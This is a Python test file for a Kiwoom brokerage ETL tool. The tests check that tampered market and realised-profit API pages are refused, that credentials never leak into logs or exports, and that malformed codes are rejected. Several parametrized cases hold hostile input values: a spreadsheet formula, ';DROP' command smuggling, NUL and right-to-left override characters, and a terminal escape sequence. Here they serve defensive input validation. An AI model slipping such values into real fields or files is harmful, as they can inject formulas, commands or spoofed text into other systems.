    column = {"name": "name", "upName": "sector", "marketName": "market_name"}[field]
    with engine.connect() as connection:
        kept = connection.execute(select(Instrument.__table__.c[column]).where(Instrument.stock_code == "005930"))
        assert kept.scalar_one() == hostile.strip(" ")
    engine.dispose()
    out = tmp_path / "instruments.csv"
    result = invoke("export", "instruments", "--database-url", url, "--out", str(out))
    assert result.exit_code == 0, result.output
    (row,) = [r for r in csv_rows(out.read_bytes().decode("utf-8")) if r["stock_code"] == "005930"]
    assert row[column] == guarded(hostile)


@pytest.mark.parametrize(
    ("api_id", "field", "value", "named"),
    [
        ("ka10099", "code", "0001a0", "not a KRX code"),  # lowercase
        ("ka10099", "code", "05930", "not a KRX code"),
        ("ka10099", "code", "=1+1", "not a KRX code"),
        ("ka10099", "name", "삼성\x00전자", "NUL"),
        ("ka20006", "cur_prc", "2521.27", "not an integer"),
        ("ka20006", "cur_prc", "25+2127", "not an integer"),
        ("ka20006", "trde_qty", "-393564", "below 0"),
        ("ka20006", "dt", "", "a bar needs its day"),
        ("ka20006", "dt", "20261123", "after 2026-11-20"),  # Monday: no bar yet on Friday evening
        ("ka10081", "trde_qty", "-5", "below 0"),
        ("ka10081", "dt", "2026112\u202e0", "not a YYYYMMDD date"),
    ],
)
def test_a_hostile_market_page_is_refused_naming_field_and_value_and_its_request_loads_nothing(
    tmp_path: Path, api_id: str, field: str, value: str, named: str
) -> None:
    from etl.apis.charts import IndexDaily, StockDaily
    from etl.apis.instruments import Instrument
    from etl.app.market import daily_bars, refresh_instruments
    from etl.jobs.snapshot import Snapshotter

    url = f"sqlite:///{tmp_path / 'kiwoom_etl.db'}"
    engine = make_engine(url)
    migrated(engine)
    simulator = _market_simulator()
    simulator.inject("bad_value", api_id=api_id, field=field, value=value, after=1)  # the second request's page
    with serve(simulator) as sim:
        jobs = _market_jobs(sim, engine, tmp_path, simulator, hour=18)
        assert all(s.ok for s in Snapshotter(jobs.settings, engine, jobs.fetcher, clock=jobs.clock).take())
        done = refresh_instruments(jobs) if api_id == "ka10099" else daily_bars(jobs, MARKET_END, MARKET_END)
        jobs.close()
    (failed,) = [r for r in done.results if not r.ok]
    assert failed.reason == "payload_refused" and field in (failed.error or "") and named in (failed.error or "")
    assert repr(value)[1:-1] in (failed.error or "") or value == ""
    (refusal,) = failed.refused
    refused_asked = refusal.split(" page ")[0].removeprefix("list ")  # the request whose page the fault spoiled
    table, key = {
        "ka10099": (Instrument.__table__, None),
        "ka20006": (IndexDaily.__table__, IndexDaily.index_code),
        "ka10081": (StockDaily.__table__, StockDaily.stock_code),
    }[api_id]
    with engine.connect() as connection:
        kept = connection.execute(
            text("SELECT asked FROM raw_responses WHERE api_id = :a AND asked = :c"),
            {"a": api_id, "c": refused_asked},
        ).all()
        assert kept  # the refused page is kept for replay
        if key is not None:
            counted = select(func.count()).select_from(table)
            rows = connection.execute(counted.where(key == refused_asked)).scalar_one()
            others = connection.execute(counted.where(key != refused_asked)).scalar_one()
            assert rows == 0 and others > 0  # the other requests loaded
        else:  # KOSPI's list (its second page spoiled) loaded none of its codes, the other lists theirs
            listed = select(Instrument.market).where(Instrument.run_id == failed.run_id)
            markets = set(connection.execute(listed).scalars())
            assert refused_asked == "0" and "KOSPI" not in markets and {"KOSDAQ", "ETF"} <= markets
    engine.dispose()


def _realised_profit_with_a_bad_value(engine: Engine, tmp_path: Path, field: str, value: str) -> Any:
    """ka10074 of an account with sales in October and November (one request a month), `field` of October's answer
    set to `value`: the job's result."""
    from etl.clock import KST
    from etl.jobs.realized import RealizedJob
    from etl.sim.history import make_history
    from tests.support import Clock, make_settings, sim_accounts

    start = date(2026, 10, 19)
    account = make_account(1, 3)
    account.history = make_history(start, (MARKET_END - start).days + 1, seed=3)
    months = {day.replace(day=1) for day in (d.day for d in account.history.realized(MARKET_END))}
    assert len(months) == 2  # sales in October and in November: one request a month
    simulator = Simulator(accounts=[account], today=lambda: MARKET_END, retry_after=None, rate_per_second=1000)
    simulator.inject("bad_value", api_id="ka10074", field=field, value=value)  # October's request
    clock = Clock(datetime.combine(MARKET_END, datetime.min.time().replace(hour=21), tzinfo=KST))
    with serve(simulator) as sim:
        settings = make_settings(sim, str(engine.url), tmp_path / "state", sim_accounts(simulator))
        job = RealizedJob(settings, engine, clock=clock)
        try:
            (done,) = job.run(since=start, until=MARKET_END)
        finally:
            job.fetcher.close()
    return done


@pytest.mark.parametrize(
    ("field", "value", "named"),
    [
        ("buy_amt", "1000.5", "not an integer"),  # a fraction in a whole-won amount: never rounded
        ("tdy_sel_pl", "59813.041", "more than 2 decimal places"),
        ("tdy_sel_pl", "1e3", "not a decimal number"),
        ("dt", "20261231", "after 2026-11-20"),
        # A November day in October's answer (strt_dt–end_dt): not what was asked, and which day it is no one's guess
        ("dt", "20261112", "not in 2026-10-19 – 2026-10-31, the range asked"),
    ],
)
def test_a_hostile_realised_profit_page_is_refused_and_its_month_loads_nothing(
    engine: Engine, tmp_path: Path, field: str, value: str, named: str
) -> None:
    from etl.apis.realized import AccountRealizedDaily

    done = _realised_profit_with_a_bad_value(engine, tmp_path, field, value)
    assert done.reason == "payload_refused" and field in (done.error or "") and named in (done.error or "")
    assert value in (done.error or "")
    with engine.connect() as connection:
        days = connection.execute(select(AccountRealizedDaily.trade_date)).scalars().all()
    assert days and all(day.month == 11 for day in days)  # October's request loaded nothing, November's loaded


def test_replay_keeps_refusing_a_realised_profit_page_dated_outside_its_range(engine: Engine, tmp_path: Path) -> None:
    """A ka10074 page refused because a line lies outside the strt_dt–end_dt asked must stay refused by `replay`:
    the transform alone reads it, so replay would load another day's profit and call the run a success."""
    from etl.apis.realized import REALIZED, AccountRealizedDaily
    from etl.jobs.replay import replay_rows

    done = _realised_profit_with_a_bad_value(engine, tmp_path, "dt", "20261112")  # a November day in October's
    assert done.reason == "payload_refused"
    with engine.connect() as connection:
        before = connection.execute(select(AccountRealizedDaily.trade_date)).scalars().all()
    _read, refused = replay_rows(engine, REALIZED)
    with engine.connect() as connection:
        after = connection.execute(select(AccountRealizedDaily.trade_date)).scalars().all()
        run = connection.execute(select(EtlRun.status, EtlRun.reason).where(EtlRun.id == done.run_id)).one()
    assert refused >= 1 and run.status == "failed", (refused, run)
    assert sorted(after) == sorted(before)  # October's month still loads nothing


def test_no_market_or_realised_profit_run_writes_a_key_or_a_token_anywhere(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    from etl.app.market import daily_bars, refresh_instruments
    from etl.clock import KST
    from etl.jobs.realized import RealizedJob
    from etl.sim.history import make_history
    from tests.support import Clock, make_settings, sim_accounts

    url = f"sqlite:///{tmp_path / 'kiwoom_etl.db'}"
    engine = make_engine(url)
    migrated(engine)
    account = make_account(1, 3)
    account.history = make_history(date(2026, 11, 2), 19, seed=3)
    simulator = Simulator(accounts=[account], today=lambda: MARKET_END, retry_after=None, rate_per_second=1000)
    simulator.inject("bad_value", api_id="ka10100", field="name", value="")  # a refusal's error too
    clock = Clock(datetime.combine(MARKET_END, datetime.min.time().replace(hour=21), tzinfo=KST))
    with serve(simulator) as sim, caplog.at_level(logging.DEBUG):
        settings = make_settings(sim, url, tmp_path / "state", sim_accounts(simulator))
        jobs = _market_jobs(sim, engine, tmp_path, simulator)
        refresh_instruments(jobs, codes=["005930"])
        refresh_instruments(jobs)
        daily_bars(jobs, date(2026, 11, 2), MARKET_END)
        jobs.close()
        job = RealizedJob(settings, engine, clock=clock)
        job.run(since=date(2026, 11, 2))
        job.fetcher.close()
    tokens = list(simulator.issued)
    secrets = [account.appkey, account.secretkey, *tokens]
    assert tokens and all(len(s) >= 8 for s in secrets), [len(s) for s in secrets]
    with engine.connect() as connection:
        stored = [
            *map(str, connection.execute(text("SELECT * FROM raw_responses")).all()),
            *map(str, connection.execute(text("SELECT * FROM etl_runs")).all()),
        ]
    engine.dispose()
    out = tmp_path / "runs.csv"
    assert invoke("export", "etl_runs", "--database-url", url, "--out", str(out)).exit_code == 0
    written = [caplog.text, *stored, out.read_text(encoding="utf-8")]
    assert any("ka10100" in w for w in stored) and any("refused" in w or "needs its name" in w for w in written)
    for secret in secrets:
        assert not any(secret in w for w in written), secret[:4]


@pytest.mark.parametrize("fmt", ["ghostfolio", "portfolio-performance"])
def test_an_export_s_notes_show_a_hostile_code_from_the_ledger_as_escapes(tmp_path: Path, fmt: str) -> None:
    url = f"sqlite:///{tmp_path / 'kiwoom_etl.db'}"
    engine = make_engine(url)
    migrated(engine)
    code = "\x1b[2J\u202e12"  # no instrument has it: the notes list it
    buy = ledger_line(
        DAY, 1, "장내매수", 100_000, stk_cd=code, stk_nm="x", trde_qty_jwa_cnt="10", cntr_dt=f"{DAY:%Y%m%d}"
    )
    load(engine, tmp_path, [], [buy])
    engine.dispose()
    out = tmp_path / "out.file"
    result = invoke("export", "account_transactions", "--format", fmt, "--database-url", url, "--out", str(out))
    assert result.exit_code == 0, result.output
    assert "not in instruments" in result.stderr and "\\x1b[2J\\u202e12" in result.stderr, result.stderr
    assert "\x1b" not in result.output and "\u202e" not in result.output


@pytest.mark.parametrize("index", ["1", "0001", "KOSPI", "", "001;DROP", "００１", "٠٠١", "001\n"])
def test_returns_refuses_a_benchmark_that_is_not_three_ascii_digits_in_one_line(tmp_path: Path, index: str) -> None:
    url = f"sqlite:///{tmp_path / 'kiwoom_etl.db'}"
    result = invoke("returns", "--database-url", url, "--benchmark", index)
    assert result.exit_code == 2 and "expected a three-digit index code" in result.output, result.output
    assert "Traceback" not in result.output and not (tmp_path / "kiwoom_etl.db").exists()


@pytest.mark.parametrize("code", ["0001a0", "abcdef", "5930", "0059301", "A005930", "００５９３０", "005930;DROP", ""])
def test_instruments_refuses_a_code_the_lists_would_refuse_before_asking(tmp_path: Path, code: str) -> None:
    env = {"KIWOOM_APPKEY": "app-key", "KIWOOM_SECRETKEY": "secret-key", "KIWOOM_BASE_URL": "http://127.0.0.1:1"}
    result = invoke("instruments", "--database-url", f"sqlite:///{tmp_path / 'db'}", "--code", code, env=env)
    assert result.exit_code == 2 and "six letters or digits" in result.output, result.output
    assert "Traceback" not in result.output and not (tmp_path / "db").exists()
